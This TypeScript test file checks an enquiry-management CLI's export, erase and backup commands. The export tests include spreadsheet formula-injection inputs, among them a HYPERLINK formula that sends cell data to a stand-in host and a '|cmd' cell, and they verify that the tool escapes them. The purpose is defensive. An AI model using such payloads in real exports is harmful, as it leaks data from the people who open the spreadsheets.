import { once } from 'node:events';
import { mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { copyFile, readdir, rm } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { sql } from 'kysely';
import { describe, expect, onTestFinished, test } from 'vitest';
import { openDatabase } from '../../server/database/database.ts';
import { copyErasures, readErasures } from '../../server/enquiries/erasures-file.ts';
import { tinySite } from '../fixtures/tiny-site.ts';
import { databaseFactory, databaseKinds } from '../helpers/databases.ts';
import { addEnquiries, enquiriesTools, makeDatabase } from './enquiries-tools.ts';
import { enquiry, makeFolder, postJson, startServer } from './start-server.ts';

const tools = enquiriesTools();
const createDatabase = databaseFactory();

describe('export', () => {
  test('writes CSV that a spreadsheet reads as text, whatever was typed', async () => {
    const { url, references } = await makeDatabase({
      name: '=HYPERLINK("//x.example?"&A1,"Ann")',
      phone: '+44 1632 960123',
      message: '@SUM(1)\nwith "quotes", commas; and café ☕',
      registration: '-1+1',
    });
    const { code, out } = await tools.run(url, 'export');
    expect(code).toBe(0);
    expect(out).toBe(
      [
        '\uFEFF"reference","state","reason","formType","form","receivedAt","doneAt","name","phone","email","registration","postcode","service","preferredDate","preferredTime","message"',
        `"${references[0]}","received","","contact","","2026-11-20 09:00","","'=HYPERLINK(""//x.example?""&A1,""Ann"")","'+44 1632 960123","ann@example.org","'-1+1","ZZ1 2ZZ","","","","'@SUM(1)\nwith ""quotes"", commas; and café ☕"`,
        '',
      ].join('\r\n'),
    );
  });

  test('says in CSV when an enquiry was done, by the clock of the garage', async () => {
    const { url, db, references } = await makeDatabase({}, {});
    await db
      .updateTable('enquiry')
      .set({ done_at: '2026-07-01T12:30:00.000Z' })
      .where('reference', '=', references[0] ?? '')
      .execute();
    const { out } = await tools.run(url, 'export');
    expect(out).toContain(`"${references[0]}","received","","contact","","2026-11-20 09:00","2026-07-01 13:30","Ann`);
    expect(out).toContain(`"${references[1]}","received","","contact","","2026-11-20 10:00","","Ann`);
  });

  test('separates cells by a semicolon where numbers have a comma, as Excel expects there', async () => {
    const { url } = await makeDatabase({ message: 'a;b' });
    const header = async (language: string) => {
      const { out } = await enquiriesTools({ ...tinySite, language }).run(url, 'export');
      expect(out).toContain('"a;b"\r\n');
      return out.slice(0, 20);
    };
    expect(await header('es-ES')).toBe('\uFEFF"reference";"state"');
    expect(await header('es-MX')).toBe('\uFEFF"reference","state"');
  });

  // ^ stands for the apostrophe; a spreadsheet may also separate cells by semicolons, or by tabs where text is pasted.
  test('escapes everything that a spreadsheet would calculate, in every locale', async () => {
    const cells = ['^\t^=1', '^  =1', '^＝1', '^＋1', '^|cmd', '^%0A=1', '^\n^@x', '^\u200B=1', '^\u2060\u200D+1'];
    cells.push('Hello;^"=1+1', 'Hello;^ "\'=1"', '^"=1', 'It is; "fine"');
    cells.push('Hello;^=1+1', 'Hello;^ -1', 'Brakes:\n^\u200B@x', 'Hello\t^=1+1', 'a=1; b=2', 'one\n\ntwo; three');
    const { url } = await makeDatabase(...cells.map((cell) => ({ message: cell.replaceAll('^', '') })));
    const { out } = await tools.run(url, 'export');
    const written = (cell: string) => cell.replaceAll('"', '""').replaceAll('^', "'");
    for (const cell of cells) expect(out).toContain(`,"${written(cell)}"\r\n`);
  });

  test('writes JSON with one object a line, with the same filters', async () => {
    const { url, references } = await makeDatabase({}, { formType: 'booking' }, { website: 'filled' });
    const list = (await tools.run(url, 'export', '--json')).out.trim().split('\n');
    expect(list.map((line) => JSON.parse(line).reference)).toEqual(references.slice(0, 2));
    expect((await tools.run(url, 'export', '--json', '--until', '2020-01-01')).out).toBe('');
    const lines = (await tools.run(url, 'export', '--json', '--spam')).out;
    expect(JSON.parse(lines)).toMatchObject({ reference: references[2], state: 'held' });
  });
});

describe('erase', () => {
  test('deletes a person’s enquiries, by address or number in any notation, and records it', async () => {
    const { url, db, references, dir } = await makeDatabase(
      { email: 'Ann@Ex\u00E4mple.ORG', phone: '01632 960999', message: 'A secret of the first.' },
      { email: '', phone: '+44 (0)1632 960-123', message: 'A secret of the second.' },
      { email: 'bob@example.org', phone: '01632 960124', message: 'What Bob said.' },
      { email: 'ann@ex\u00E4mple.org', website: 'filled', phone: '01632 960777' },
    );
    const args = ['erase', '--email', 'ann@exa\u0308mple.org', '--phone', '01632960123'];
    const dry = await tools.run(url, ...args, '--dry-run', '--json');
    expect(JSON.parse(dry.out)).toEqual({
      dryRun: true,
      references: [references[0], references[1], references[3]],
    });
    const { code, out } = await tools.run(url, ...args, '--json');
    const proof = JSON.parse(out);
    expect([code, proof]).toEqual([
      0,
      {
        erasedAt: expect.stringMatching(/^\d{4}-\d\d-\d\dT/),
        by: ['email', 'phone'],
        references: [references[0], references[1], references[3]],
        mails: 3,
        remaining: 0,
      },
    ]);
    for (const typed of ['ann', '960123']) expect(out.toLowerCase()).not.toContain(typed);
    expect(await db.selectFrom('enquiry').select('reference').execute()).toEqual([{ reference: references[2] }]);
    expect(await db.selectFrom('outbox').select('id').execute()).toHaveLength(2);
    // Neither in the database file nor in its write-ahead log.
    for (const name of await readdir(dir)) {
      const bytes = readFileSync(join(dir, name)).toString('latin1');
      for (const typed of ['A secret', 'Ann@Ex', '960-123'])
        expect([name, bytes.includes(typed)]).toEqual([name, false]);
    }
  });

  test.each(databaseKinds)('finds %s’s enquiries with several numbers or addresses', async (kind) => {
    const url = await createDatabase(kind);
    const db = await openDatabase(url);
    onTestFinished(() => db.destroy());
    const phones = ['01632 960199 or 07700 900124', '01632 960145 / 07700 900124', '07700 900125', '٠٧٧٠٠ ٩٠٠١٢٧'];
    const sent = phones.map((phone) => ({ phone }));
    const [first, second, third, arabic] = await addEnquiries(db, sent, '2026-11-20T09:00:00.000Z', 3_600_000);
    const answers = JSON.stringify([
      { name: 'mobile', kind: 'phone', value: '07700 900126' },
      { name: 'work', kind: 'email', value: 'ann@work.example' },
    ]);
    await db.updateTable('enquiry').set({ answers }).where('reference', '=', `${third}`).execute();
    const find = async (...args: string[]) =>
      JSON.parse((await tools.run(url, 'erase', ...args, '--dry-run', '--json')).out).references;
    expect(await find('--phone', '+447700900124')).toEqual([first, second]);
    expect(await find('--phone', '01632 960145')).toEqual([second]);
    expect(await find('--phone', '07700 900126')).toEqual([third]);
    expect(await find('--phone', '07700 900127')).toEqual([arabic]);
    expect(await find('--email', 'Ann@work.example')).toEqual([third]);
  });

  test('messages of nothing but digits do not keep an erasure waiting', async () => {
    // Digits of other scripts are read too.
    const message = `${'1 '.repeat(2490)}٣`;
    const { url } = await makeDatabase(...Array.from({ length: 100 }, () => ({ message })));
    const started = performance.now();
    expect((await tools.run(url, 'erase', '--phone', '07700 900128')).err).toContain('No enquiry matches');
    expect(performance.now() - started).toBeLessThan(5000);
  });

  test('says so when there is nothing to erase, and exits with 1', async () => {
    const { url, references, dir } = await makeDatabase({}, { phone: '01632 960998' }, { phone: '01632 960999' });
    const { code, out, err } = await tools.run(url, 'erase', '--phone', '+1 632 960123');
    expect([code, out, err]).toEqual([1, '', 'No enquiry matches; nothing was erased.\n']);
    const [reference = '', other = '', third = ''] = references;
    const spelt = `${reference.slice(0, 4)}-${reference.slice(4).toLowerCase()}`;
    const readable = await tools.run(url, 'erase', '--phone', '00441632960123', '--reference', spelt);
    expect(readable.out).toMatch(
      new RegExp(`^Erased on .+, by phone and reference: ${reference}, with 2 mails\\.\nChecked: 0 left`),
    );
    const record = join(dir, 'record/erasures.jsonl');
    await tools.run(url, 'erase', '--reference', other.toLowerCase(), '--erasures', record);
    await tools.run(url, 'erase', '--reference', third, '--erasures', record);
    expect(readErasures(join(dir, 'erasures.jsonl'))).toMatchObject([
      { erasedAt: expect.stringMatching(/^2/), by: ['phone', 'reference'], references: [reference] },
    ]);
    expect(readErasures(record).map(({ references }) => references)).toEqual([[other], [third]]);
    expect([
      copyErasures(join(dir, 'erasures.jsonl'), record),
      copyErasures(join(dir, 'erasures.jsonl'), record),
    ]).toEqual([1, 0]);
    writeFileSync(record, '{"references":""}\n', { flag: 'a' });
    expect(() => readErasures(record)).toThrow(`Line 4 of ${record} is not an erasure: correct it`);
    expect([record, dirname(record)].map((path) => statSync(path).mode & 0o777)).toEqual([0o600, 0o700]);
  });
});

test('a database that does not exist is named, and not created', async () => {
  const folder = await makeFolder();
  const missing = join(folder, 'sub/enquiries.sqlite');
  const advice = 'Set DATABASE_URL to the server’s; only the server and `enquiries migrate` create a database.\n';
  const commands = [
    ['list'],
    ['erase', '--email', 'ann@example.org'],
    ['purge'],
    ['retry', '--all'],
    ['backup', '--done'],
  ];
  for (const args of commands) {
    const { code, err } = await tools.run(`file:${missing}`, ...args);
    expect([args, code, err]).toEqual([args, 1, `There is no database ${missing}. ${advice}`]);
  }
  mkdirSync(join(folder, 'sub'));
  writeFileSync(join(folder, 'sub/development.sqlite'), '');
  const beside = await tools.run(`file:${missing}`, 'list');
  expect(beside.err).toBe(
    `There is no database ${missing}. That of npm run dev is file:${folder}/sub/development.sqlite. ${advice}`,
  );
  await rm(join(folder, 'sub'), { recursive: true });
  writeFileSync(join(folder, 'other'), '');
  const { code, err } = await tools.run(`file:${folder}/other`, 'list');
  expect([code, err]).toEqual([1, `The file ${folder}/other has no enquiry tables. ${advice}`]);
  expect([await readdir(folder), readFileSync(join(folder, 'other'), 'utf8')]).toEqual([['other'], '']);
  expect((await tools.run(`file:${missing}`, 'migrate')).out).toBe('The database is up to date.\n');
  expect((await tools.run(`file:${missing}`, 'list')).out).toBe('No enquiries.\n');
});

describe('backup', () => {
  test('copies while the server accepts enquiries, and the copy has every one acknowledged before', async () => {
    const { url, db } = await startServer();
    const [{ file }] = await readFileName(db);
    const before: string[] = [];
    for (let i = 0; i < 50; i++) before.push(await send(url, i));
    let isDone = false;
    const during: Promise<string>[] = [];
    const sending = (async () => {
      for (let i = 50; !isDone; i++) {
        during.push(send(url, i));
        await during.at(-1);
      }
    })();
    const target = `${file}.backup`;
    const { code, out } = await tools.runBuilt(`file:${file}`, 'backup', target);
    isDone = true;
    await sending;
    expect([code, out]).toEqual([0, expect.stringMatching(/^Wrote \S+: \d+ enquiries, \d+ bytes, checked\.\n$/)]);
    expect(during.length).toBeGreaterThan(5);
    expect(statSync(target).mode & 0o777).toBe(0o600);

    const restored = `${file}.restored`;
    await copyFile(target, restored);
    const copy = await openDatabase(`file:${restored}`);
    const kept = (await copy.selectFrom('enquiry').select('reference').execute()).map(({ reference }) => reference);
    await copy.destroy();
    expect(kept).toEqual(expect.arrayContaining(before));
  });

  test('never overwrites, leaves nothing half-written, and refers PostgreSQL to its own tool', async () => {
    const { url, dir } = await makeDatabase({});
    const taken = join(dir, 'taken');
    writeFileSync(taken, 'precious');
    expect(await tools.run(url, 'backup', taken)).toMatchObject({
      code: 1,
      err: `${taken} already exists; name a new file.\n`,
    });
    expect(readFileSync(taken, 'utf8')).toBe('precious');
    expect((await tools.run(url, 'backup', join(dir, 'new', 'folder/'))).out).toContain(
      join(dir, 'new', 'folder', '2'),
    );
    const nowhere = await tools.run(url, 'backup', join(taken, 'copy.sqlite'));
    expect([nowhere.code, nowhere.err]).toEqual([1, expect.stringContaining('Cannot write the copy')]);
    expect((await readdir(dir)).filter((name) => name.includes('partial'))).toEqual([]);
    expect(await tools.run('postgres://user:secret@db.example/x', 'backup', join(dir, 'y'))).toMatchObject({
      code: 1,
      err: expect.stringContaining('backup-postgres.sh --once'),
    });
    const missing = await tools.run(`file:${dir}/none.sqlite`, 'backup', join(dir, 'z'));
    expect([missing.code, missing.err]).toEqual([1, expect.stringContaining('Cannot open the database file')]);
    await rm(taken);
  });
});

async function send(url: string, i: number): Promise<string> {
  const answer = await postJson(url, { ...enquiry, message: `Message number ${i}` }, { 'Idempotency-Key': `key-${i}` });
  return ((await answer.json()) as { reference: string }).reference;
}

async function readFileName(db: Awaited<ReturnType<typeof openDatabase>>) {
  const { rows } = await sql<{ file: string }>`pragma database_list`.execute(db);
  return rows as [{ file: string }];
}

test('a list whose reader closes the pipe does not fail', async () => {
  const { url } = await makeDatabase(
    ...Array.from({ length: 300 }, (_, i) => ({ message: `Message number ${i} `.repeat(80) })),
  );
  const reader = tools.start(url, 'export');
  reader.stdout.once('data', () => reader.stdout.destroy());
  expect(await once(reader, 'exit')).toEqual([0, null]);
});

test('names the enquiries of others that quote the address or the number', async () => {
  const { url, db, references } = await makeDatabase(
    { email: 'ann@example.org', phone: '01632 960001' },
    { email: 'bob@example.org', phone: '01632 960002', message: 'My wife is ANN@example.org.' },
    { email: 'cat@example.org', phone: '01632 960003', message: 'Or ring +44 1632 960-001 after six.' },
    { email: 'dan@example.org', phone: '01632 960004' },
  );
  const [, bob, cat, dan = ''] = references;
  await tools.run(url, 'done', dan, '--note', 'Same household as ann@example.org');
  const { out, err, code } = await tools.run(url, 'erase', '--email', 'ann@example.org', '--phone', '01632 960001');
  expect([code, err]).toEqual([
    0,
    expect.stringContaining(
      `Other enquiries quote this person, or an address like theirs: ${bob}, ${cat}, ${dan}. Read`,
    ),
  ]);
  expect(out).toContain(`: ${references[0]}, with`);
  expect(await db.selectFrom('enquiry').select('id').execute()).toHaveLength(3);
});

test('names no enquiry of an address that only contains the erased one', async () => {
  const others = ['joann@example.org', 'jo.ann@example.org', 'ann@example.organic', 'ann@example.org-uk.example'];
  const quotes = [
    "'ann@example.org'",
    '...ann@example.org.Ring me',
    'Ann+garage@example.org',
    'mail:ann@example.org,',
    'ann@example.org- ring me',
  ];
  const { url, references } = await makeDatabase(
    ...others.map((email) => ({ email })),
    ...quotes.map((message) => ({ email: 'bob@example.org', message })),
  );
  for (const email of ['ann@example.org', 'ann+mot@example.org']) {
    const { err } = await tools.run(url, 'erase', '--email', email, '--dry-run');
    expect(err).toContain(`: ${references.slice(others.length).join(', ')}. Read`);
  }
});

test('finds an address by either spelling of its domain, and the enquiries that quote it in the other', async () => {
  const { url, references } = await makeDatabase(
    { email: 'anna@xn--mller-kva.example' },
    { email: 'bob@example.org', message: 'My wife is Anna@Müller.example.' },
    { email: 'cat@example.org', message: 'My wife is anna@xn--mller-kva.example.' },
  );
  for (const email of ['anna@müller.example', 'ANNA@XN--MLLER-KVA.example']) {
    const { out, err } = await tools.run(url, 'erase', '--email', email, '--dry-run', '--json');
    expect(JSON.parse(out).references).toEqual([references[0]]);
    expect(err).toContain(`like theirs: ${references[1]}, ${references[2]}. Read`);
  }
  const { err } = await tools.run(url, 'erase', '--email', 'anna@xn--a.example', '--dry-run');
  expect(err).toBe('');
});
